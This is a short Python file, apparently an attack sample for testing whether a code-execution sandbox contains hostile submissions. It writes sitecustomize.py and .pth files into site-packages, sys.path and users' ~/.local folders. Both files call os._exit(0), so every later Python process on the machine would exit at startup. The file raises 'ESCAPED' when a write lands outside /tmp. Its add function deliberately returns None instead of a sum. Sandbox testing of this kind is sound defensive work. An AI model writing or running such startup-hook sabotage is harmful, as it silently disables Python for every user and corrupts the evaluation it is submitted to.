"""Leaves files that every later Python reads when it starts, in the user's folders and beside the library."""

KIND = "call"
import os
import site
import sys
import sysconfig

HOMES = {os.environ.get("HOME", ""), "/root", "/home", "/tmp"}
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
folders = {sysconfig.get_path("purelib"), site.getusersitepackages(), *sys.path}
folders |= {f"{home}/.local/lib/{version}/site-packages" for home in HOMES}
for folder in folders:
    for name, text in (
        ("sitecustomize.py", "import os\nos._exit(0)\n"),
        ("x.pth", "import os; os._exit(0)\n"),
    ):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/touchstone_attack_{name}", "w") as file:
                file.write(text)
        except OSError:
            continue
        if not os.path.realpath(folder).startswith("/tmp"):
            raise RuntimeError(f"ESCAPED: wrote to {folder}")


def add(a, b):
    return None
